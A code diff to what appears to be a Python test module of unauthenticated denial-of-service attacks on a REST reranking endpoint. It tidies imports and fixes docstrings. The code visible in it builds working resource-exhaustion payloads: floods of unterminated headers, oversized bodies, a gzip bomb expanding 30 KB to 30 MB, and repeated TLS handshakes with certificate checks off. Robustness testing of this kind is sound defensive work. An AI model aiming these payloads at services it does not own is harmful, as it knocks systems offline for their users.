@@ -1,5 +1,7 @@
 """Attacks of clients without a key on the REST port."""
 
+import asyncio
+import gzip
 import ssl
 from contextlib import ExitStack, suppress
 
@@ -35,7 +37,7 @@ async def half_header(target: Target, count: int, held: ExitStack) -> str:
 
 
 async def many_headers(target: Target, count: int, held: ExitStack) -> str:
-    """Send 16,000 short headers without their end."""
+    """Send 15,000 short headers without their end."""
     return await _connections(target, count, held, _GET[:-2] % b"/" + b"a:\r\n" * 15_000)
 
 
@@ -85,7 +87,7 @@ async def no_key(target: Target, count: int, held: ExitStack) -> str:
 
 
 async def large_body(target: Target, count: int, held: ExitStack) -> str:
-    """Send a body of 64 KB without a key: 20,000 empty documents."""
+    """Send a body of 60 KB without a key: 20,000 empty documents."""
     body = b'{"query": "a", "documents": [' + b"[]," * 20_000 + b"1]}"
     return await _answered(target, count, held, _POST % len(body) + body)
 
@@ -102,8 +104,6 @@ async def huge_body(target: Target, count: int, held: ExitStack) -> str:
 
 async def bomb(target: Target, count: int, held: ExitStack) -> str:
     """Send a body of 30 KB that gzip expands to 30 MB."""
-    import gzip
-
     body = gzip.compress(b'{"query": "' + b"a" * 30_000_000)
     head = b"POST /v1/rerank HTTP/1.1\r\nhost: x\r\ncontent-encoding: gzip\r\ncontent-length: %d\r\n\r\n" % len(body)
     return await _answered(target, count, held, head + body)
@@ -174,8 +174,6 @@ async def handshake(target: Target, count: int, held: ExitStack) -> str:
 
 async def tls_handshakes(port: int, count: int) -> str:
     """Connect, finish the handshake, and close."""
-    import asyncio
-
     context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
     context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
     context.set_alpn_protocols(["h2", "http/1.1"])
